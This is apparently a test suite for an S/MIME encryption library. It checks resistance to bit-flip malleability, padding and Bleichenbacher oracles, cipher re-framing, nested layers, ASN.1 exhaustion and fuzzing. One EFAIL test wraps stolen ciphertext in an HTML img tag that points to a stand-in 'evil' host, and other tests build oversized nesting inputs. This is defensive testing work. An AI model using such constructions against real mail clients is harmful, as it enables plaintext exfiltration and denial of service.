/** Attacks on encrypted entities: malleability, re-framing, oracles, nesting, cost. */
import { beforeAll, describe, expect, it } from 'vitest';
import type { SecurityBackend } from '../../src/backends/backend.ts';
import { openEntity, type OpenEntityOptions } from '../../src/backends/smime/index.ts';
import { oids } from '../../src/asn1/oids.ts';
import {
  der,
  derContext,
  derInteger,
  derNull,
  derOctetString,
  derOid,
  derSequence,
  type DerPart,
  encodeDer,
} from '../../src/asn1/writer.ts';
import { base64Decode, concatBytes, utf8 } from '../../src/bytes.ts';
import { encryptContent } from '../../src/cms/encrypt.ts';
import { parseEnveloped } from '../../src/cms/enveloped-data.ts';
import { E2eError } from '../../src/errors.ts';
import { defaultLimits, limitsWith } from '../../src/limits.ts';
import { bareEntity, parseEntity } from '../../src/mime/entity.ts';
import { parseCertificate } from '../../src/x509/certificate.ts';
import { parsePem } from '../../src/x509/pem.ts';
import { runs } from '../shared-data.ts';
import { multipartSigned, pkcs7Mime } from '../unit/smime/forge.ts';
import { at, backendOf, entityOf, person, type Person, strict, text } from '../unit/smime/support.ts';
import { random } from '../unit/x509/random.ts';
import { crypto } from '../unit/x509/support.ts';
import { cpuTime } from '../cpu-time.ts';

let juliet: Person;
let romeo: Person;
let backend: SecurityBackend;
/** Signed by juliet for romeo. */
let signed: Uint8Array;

beforeAll(async () => {
  juliet = await person('juliet@capulet.example', 'rsa2048');
  romeo = await person('romeo@montague.example', 'rsa2048');
  backend = backendOf({ own: [juliet], filed: [romeo] });
  const request = { ...strict, content: text, signer: juliet.jid, recipients: [romeo.jid], includeCertificate: true };
  signed = await backend.sign({ ...request, profile: 'modern' });
});

const everything = {
  cbc: true,
  rsaPkcs1v15: true,
  tripleDes: true,
  sha1Signatures: true,
  unsignedAttributes: true,
} as const;

function open(octets: Uint8Array, more: Partial<OpenEntityOptions> = {}) {
  const options = { at, keys: [romeo.identity], certificates: [juliet.identity.certificates], policy: everything };
  return openEntity(octets, { ...options, ...more });
}

async function failure(octets: Uint8Array, more: Partial<OpenEntityOptions> = {}): Promise<E2eError> {
  try {
    await open(octets, more);
  } catch (error) {
    expect(error).toBeInstanceOf(E2eError);
    return error as E2eError;
  }
  throw new Error('it was delivered');
}

async function seal(content: Uint8Array, profile: 'modern' | 'rfc3923'): Promise<Uint8Array> {
  const request = { ...strict, content, recipients: [romeo.jid], hidden: false, profile };
  return base64Decode(entityOf(await backend.encrypt(request)).body);
}

describe('the messages that the attacks start from', () => {
  it('open', async () => {
    for (const profile of ['modern', 'rfc3923'] as const) {
      const opened = await open(await seal(signed, profile));
      expect(opened.content).toEqual(text);
      expect(opened.trust).toBe('pinned');
    }
  });
});

describe('one changed octet', () => {
  it.each(['modern', 'rfc3923'] as const)(
    'of a signed and encrypted message (%s) delivers nothing, or the same',
    async (profile) => {
      const cms = await seal(signed, profile);
      const next = random(8551);
      const step = runs(10) === 10 ? 1 : 7;
      for (let i = next(step); i < cms.length; i += step) {
        const changed = cms.slice();
        changed[i]! ^= 1 << next(8);
        try {
          // Parts that mean nothing to the reader may change: other recipients, versions, unprotected fields.
          expect((await open(changed)).content).toEqual(text);
        } catch (error) {
          expect(error).toBeInstanceOf(E2eError);
        }
      }
    },
  );

  it('of the ciphertext of an unsigned message in CBC never gets past a policy that wants a signature', async () => {
    const cms = await seal(text, 'rfc3923');
    const { ciphertext } = parseEnveloped(cms, defaultLimits);
    const start = cms.length - ciphertext.length;
    const outcomes = new Set<string>();
    for (let i = start; i < cms.length; i++) {
      const changed = cms.slice();
      changed[i]! ^= 1;
      const { code, stage, message, reason } = await failure(changed);
      outcomes.add(JSON.stringify({ code, stage, message, reason }));
    }
    // Padding, MIME structure, missing signature: one answer (Vaudenay; the section 7 oracle).
    expect([...outcomes]).toEqual([
      JSON.stringify({
        code: 'ERR_E2E_DECRYPTION_FAILED',
        stage: 'decrypt',
        message: 'the message cannot be decrypted',
        reason: undefined,
      }),
    ]);
  });

  it('of an encrypted RSA key looks like any other failure (Bleichenbacher)', async () => {
    const cms = await seal(signed, 'rfc3923');
    const { recipients } = parseEnveloped(cms, defaultLimits);
    const { encryptedKey } = recipients[0]!;
    const start = Buffer.from(cms).indexOf(Buffer.from(encryptedKey));
    const outcomes = new Set<string>();
    for (let i = 8; i < encryptedKey.length; i += 8) {
      const changed = cms.slice();
      changed[start + i]! ^= 1;
      const { code, stage, reason } = await failure(changed);
      outcomes.add(JSON.stringify({ code, stage, reason }));
    }
    expect([...outcomes]).toEqual([
      JSON.stringify({ code: 'ERR_E2E_DECRYPTION_FAILED', stage: 'decrypt', reason: undefined }),
    ]);
  });
});

describe('re-framing', () => {
  /** The ciphertext of AES-GCM is AES in counter mode: as CBC it would be an oracle for its key stream (RFC 9709). */
  it('AES-GCM content as CBC EnvelopedData delivers nothing', async () => {
    for (let i = 0; i < runs(100); i++) {
      const cms = await seal(signed, 'modern');
      const whole = parseEnveloped(cms, defaultLimits);
      const recipientSet = der(0x31, recipientInfos(cms));
      const iv = crypto.randomBytes(16);
      const cut = whole.ciphertext.subarray(0, whole.ciphertext.length - (whole.ciphertext.length % 16));
      const content = derSequence(
        derOid(oids.data),
        derSequence(derOid(oids.aes256Cbc), derOctetString(iv)),
        der(0x80, cut),
      );
      const framed = encodeDer(
        derSequence(derOid(oids.envelopedData), derContext(0, derSequence(derInteger(0), recipientSet, content))),
      );
      const error = await failure(framed, { policy: { ...everything, unsigned: 'refuse' } });
      expect([error.code, error.reason]).toEqual(['ERR_E2E_DECRYPTION_FAILED', undefined]);
      expect((await failure(framed, { policy: {} })).code).toBe('ERR_E2E_WEAK_ALGORITHM');
    }
  });

  it.each([
    ['GCM in EnvelopedData', oids.envelopedData, oids.aes256Gcm],
    ['CBC in AuthEnvelopedData', oids.authEnvelopedData, oids.aes256Cbc],
  ])('%s is refused', async (_what, container, cipher) => {
    const cms = await seal(signed, 'modern');
    const { ciphertext, iv, tag } = parseEnveloped(cms, defaultLimits);
    const parameters: DerPart =
      cipher === oids.aes256Gcm
        ? derSequence(derOctetString(iv), derInteger(16))
        : derOctetString(concatBytes(iv, iv.subarray(0, 4)));
    const content = derSequence(derOid(oids.data), derSequence(derOid(cipher), parameters), der(0x80, ciphertext));
    const mac = container === oids.authEnvelopedData ? [derOctetString(tag!)] : [];
    const inner = derSequence(derInteger(0), der(0x31, recipientInfos(cms)), content, ...mac);
    const error = await failure(encodeDer(derSequence(derOid(container), derContext(0, inner))));
    expect(error.code).not.toBe('ERR_E2E_DECRYPTION_FAILED');
  });
});

/** The content of the set of RecipientInfos, as it stands. */
function recipientInfos(cms: Uint8Array): Uint8Array {
  const { encryptedKey } = parseEnveloped(cms, defaultLimits).recipients[0]!;
  const end = Buffer.from(cms).indexOf(Buffer.from(encryptedKey)) + encryptedKey.length;
  // The set starts at the first 0x31 with a two-octet length that ends there.
  for (let at = 0; at < end; at++) {
    if (cms[at] === 0x31 && cms[at + 1] === 0x82 && at + 4 + cms[at + 2]! * 256 + cms[at + 3]! === end)
      return cms.subarray(at + 4, end);
  }
  throw new Error('no set of recipients');
}

describe('layers', () => {
  it('an encrypted one inside an encrypted one', async () => {
    const inner = pkcs7Mime(await seal(signed, 'modern'), 'authEnveloped-data');
    expect((await failure(await seal(inner, 'modern'))).code).toBe('ERR_E2E_LAYERS_REFUSED');
  });

  it('an encrypted one inside a signed one', async () => {
    const inner = pkcs7Mime(await seal(text, 'modern'), 'authEnveloped-data');
    const request = { ...strict, content: inner, signer: juliet.jid, recipients: [], includeCertificate: true };
    const outer = await backend.sign({ ...request, profile: 'modern' });
    expect((await failure(outer)).code).toBe('ERR_E2E_LAYERS_REFUSED');
  });

  it('a signed one inside a signed one', async () => {
    const request = { ...strict, content: signed, signer: juliet.jid, recipients: [], includeCertificate: true };
    expect((await failure(await backend.sign({ ...request, profile: 'modern' }))).code).toBe('ERR_E2E_LAYERS_REFUSED');
  });

  it('compressed data, and none at all', async () => {
    const compressed = encodeDer(derSequence(derOid(oids.compressedData), derContext(0, derSequence())));
    expect((await failure(pkcs7Mime(compressed, 'compressed-data'))).code).toBe('ERR_E2E_UNSUPPORTED');
    expect((await failure(text)).code).toBe('ERR_E2E_NOT_SEALED');
    expect((await failure(pkcs7Mime(Uint8Array.of(0x30, 0), 'signed-data'))).code).toBe('ERR_E2E_MALFORMED');
  });

  it('ciphertext between parts of an attacker (EFAIL) is part of no accepted tree', async () => {
    const stolen = pkcs7Mime(await seal(signed, 'modern'), 'authEnveloped-data');
    const tree = concatBytes(
      utf8(
        'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil/\r\n--b\r\n',
      ),
      stolen,
      utf8('\r\n--b--\r\n'),
    );
    expect((await failure(tree)).code).toBe('ERR_E2E_NOT_SEALED');
    const wrapped = multipartSigned(stolen, base64Decode(parseEntity(stolen, { limits: defaultLimits }).body));
    expect((await failure(wrapped)).code).not.toBe('ERR_E2E_DECRYPTION_FAILED');
  });
});

describe('cost', () => {
  it('more recipients than the limit are refused before a key is used', async () => {
    const [certificate] = parsePem(romeo.identity.certificates).map(({ der: octets }) =>
      parseCertificate(octets, defaultLimits),
    );
    const { publicKey, issuer, serial } = certificate!;
    const recipient = { publicKey, identifier: { kind: 'issuer-and-serial', issuer: issuer.raw, serial } } as const;
    const sealTo = async (count: number) =>
      encryptContent({
        content: signed,
        recipients: Array.from({ length: count }, () => recipient),
        cipher: 'aes256-gcm',
        crypto,
      });
    expect((await open(await sealTo(64))).content).toEqual(text);
    expect((await failure(await sealTo(65), { keys: [] })).code).toBe('ERR_E2E_LIMIT');
  });

  it('RSA keys beyond the limit are weak', async () => {
    const limits = limitsWith({ rsaMaxBits: 2047 + 1 });
    expect((await open(signed, { limits })).trust).toBe('pinned');
    expect((await failure(signed, { limits: limitsWith({ rsaMaxBits: 2047, rsaMinBits: 1024 }) })).code).toBe(
      'ERR_E2E_WEAK_ALGORITHM',
    );
  });

  it('deep nesting, long identifiers and endless lengths are stopped', async () => {
    const deep = new Uint8Array(200_000).fill(0x30);
    for (let i = 1; i < deep.length; i += 2) deep[i] = 0x80;
    const started = cpuTime();
    for (const octets of [deep, concatBytes(Uint8Array.of(0x30, 0x84, 0xff, 0xff, 0xff, 0xff), new Uint8Array(100))]) {
      const error = await failure(pkcs7Mime(octets));
      expect(error.code).toMatch(/MALFORMED|LIMIT/);
    }
    const oid = encodeDer(derSequence(der(6, new Uint8Array(100_000).fill(0x81)), derNull));
    expect((await failure(pkcs7Mime(oid))).code).toMatch(/MALFORMED|LIMIT/);
    expect(cpuTime() - started).toBeLessThan(1000);
  });
});

describe('seeded damage', () => {
  it('to messages of every kind: an error or the same content, never anything else', async () => {
    const seeds = [
      await seal(signed, 'modern'),
      await seal(signed, 'rfc3923'),
      base64Decode(
        parseEntity(
          signed.subarray(
            Buffer.from(signed).lastIndexOf('Content-Type: application/pkcs7-signature'),
            Buffer.from(signed).lastIndexOf('\r\n--'),
          ),
          { limits: defaultLimits },
        ).body,
      ),
    ];
    const next = random(5652);
    const check = backendOf({ own: [romeo], filed: [juliet] });
    for (let run = 0; run < runs(8000); run++) {
      const kind = next(seeds.length);
      let octets: Uint8Array = seeds[kind]!.slice();
      for (let k = next(5); k >= 0; k--) {
        const position = next(octets.length);
        const how = next(5);
        if (how === 0) octets[position] = next(256);
        else if (how === 1) octets[position]! ^= 1 << next(8);
        else if (how === 2) octets = octets.slice(0, position + 1);
        else if (how === 3) octets.copyWithin(position, next(octets.length), next(octets.length));
        else octets = concatBytes(octets.subarray(0, position), crypto.randomBytes(next(4)), octets.subarray(position));
      }
      const entity = kind === 2 ? entityOf(multipartSigned(text, octets)) : bareEntity(octets);
      try {
        const opened = await openEntity(entity, {
          at,
          keys: [romeo.identity],
          certificates: [juliet.identity.certificates],
          policy: everything,
        });
        expect(opened.content).toEqual(text);
      } catch (error) {
        if (!(error instanceof E2eError)) throw error;
      }
      try {
        await check.inspect(entity, defaultLimits);
        await check.importCertificates(entity, defaultLimits);
      } catch (error) {
        if (!(error instanceof E2eError)) throw error;
      }
    }
  });
});
